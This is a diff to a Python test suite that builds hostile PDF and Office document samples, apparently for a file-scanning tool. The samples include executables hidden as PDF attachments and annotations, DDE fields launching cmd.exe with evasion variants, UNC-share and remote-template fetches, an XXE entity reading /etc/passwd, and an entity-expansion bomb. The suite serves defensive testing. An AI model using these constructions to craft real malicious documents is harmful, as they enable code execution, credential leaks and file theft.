@@ -188,10 +188,25 @@ def locked_pdf() -> bytes:
     return out.getvalue()
 
 
-def pdf_with_a_file() -> bytes:
+def pdf_with(name: str, content: bytes) -> bytes:
     out = io.BytesIO()
     with pikepdf.open(io.BytesIO(PDF)) as made:
-        made.attachments["a.exe"] = b"MZ" + PAYLOAD
+        made.attachments[name] = content
+        made.save(out)
+    return out.getvalue()
+
+
+def pdf_with_a_file_beside() -> bytes:
+    """One attachment is an invoice, on the page hangs another."""
+    out = io.BytesIO()
+    with pikepdf.open(io.BytesIO(PDF)) as made:
+        made.attachments["a.xml"] = b"<?xml version='1.0'?><a/>"
+        held = made.make_stream(b"MZ" + PAYLOAD)
+        spec = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="x.exe", EF=pikepdf.Dictionary(F=held))
+        hung = pikepdf.Dictionary(
+            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, FS=spec, Rect=[0, 0, 9, 9]
+        )
+        made.pages[0].Annots = pikepdf.Array([hung])
         made.save(out)
     return out.getvalue()
 
@@ -228,6 +243,11 @@ LAUGHS = b"<!DOCTYPE x [" + b"".join(
     b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10 if n else b"ha") for n in range(10)
 ) + b"]><x>&a9;</x>"  # fmt: skip
 DDE = b'<w:p xmlns:w="w"><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k"</w:instrText></w:p>'
+DDE_SIMPLE = b'<w:p xmlns:w="w"><w:fldSimple w:instr="DDEAUTO cmd"/></w:p>'
+DDE_SPLIT = b'<w:p xmlns:w="w"><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E x</w:instrText></w:r></w:p>'
+DDE_SPELLED = b'<w:p xmlns:w="w"><w:instrText>&#68;DEAUTO x</w:instrText></w:p>'
+FROM_A_SHARE = rb'<w:p xmlns:w="w"><w:instrText>INCLUDEPICTURE "\\\\x.invalid\\a.png" \\d</w:instrText></w:p>'
+SHARED_PICTURE = relations(external("image", "file://x.invalid/a/b.png"))
 DDE_LINK = b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'
 OURS = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
 FOREIGN = relations(external("attachedTemplate", "http://x.invalid/a.dotm"))
@@ -257,7 +277,9 @@ FILES = (
     Hostile("pdf that sends", "x.pdf", lambda: pdf(catalog=b"/AA<</WC<</S/SubmitForm/F(http://x.invalid)>>>>")),
     Hostile("pdf with a form of scripts", "x.pdf", lambda: pdf(b"(x)", catalog=b"/AcroForm<</XFA 4 0 R>>")),
     # what hides
-    Hostile("pdf with a program", "x.pdf", pdf_with_a_file),
+    Hostile("pdf with a program", "x.pdf", lambda: pdf_with("a.exe", b"MZ" + PAYLOAD)),
+    Hostile("pdf with a program beside an invoice", "x.pdf", pdf_with_a_file_beside),
+    Hostile("pdf with a script called xml", "x.pdf", lambda: pdf_with("a.hta", b"<?xml version='1.0'?>" + HIDDEN)),
     Hostile("pdf that is a zip", "x.pdf", lambda: PDF + archive({"a.exe": HIDDEN})),
     Hostile("picture that is a zip", "x.jpg", lambda: picture() + archive({"a.exe": HIDDEN})),
     Hostile("zip that is a picture", "x.zip", lambda: b"PK\x03\x04" + picture()),
@@ -279,6 +301,16 @@ FILES = (
     # what fetches from elsewhere
     Hostile("document with a foreign template", "x.docx", with_part("word/_rels/settings.xml.rels", FOREIGN)),
     Hostile("document that starts programs", "x.docx", with_part("word/footer1.xml", DDE)),
+    Hostile("document with a simple field", "x.docx", with_part("word/document2.xml", DDE_SIMPLE)),
+    Hostile("document with a split field", "x.docx", with_part("word/footer1.xml", DDE_SPLIT)),
+    Hostile("document with a spelled field", "x.docx", with_part("word/footer1.xml", DDE_SPELLED)),
+    Hostile("document in another alphabet", "x.docx", with_part("word/footer1.xml", DDE.decode().encode("utf-16"))),
+    Hostile("document with a picture of a share", "x.docx", with_part("word/footer1.xml", FROM_A_SHARE)),
+    Hostile("document that shows a share", "x.docx", with_part("word/_rels/document.xml.rels", SHARED_PICTURE)),
+    Hostile("document with a page of another kind", "x.docx", with_part("word/chunk.rtf", b"{\\rtf1 x}")),
+    Hostile("document with a bare program", "x.docx", with_part("word/media/a.png", b"MZ" + PAYLOAD)),
+    Hostile("pdf that opens a share", "x.pdf", lambda: pdf(catalog=b"/OpenAction<</S/GoToR/F(\\\\x\\y)>>")),
+    Hostile("pdf that opens a page of the web", "x.pdf", lambda: pdf(catalog=b"/OpenAction<</S/URI/URI(http://x)>>")),
     Hostile("workbook that starts programs", "x.xlsx", with_part("xl/externalLinks/externalLink1.xml", DDE_LINK)),
     Hostile("xml that names a file of ours", "x.docx", with_part("word/footer1.xml", OURS)),
     # what cannot be read
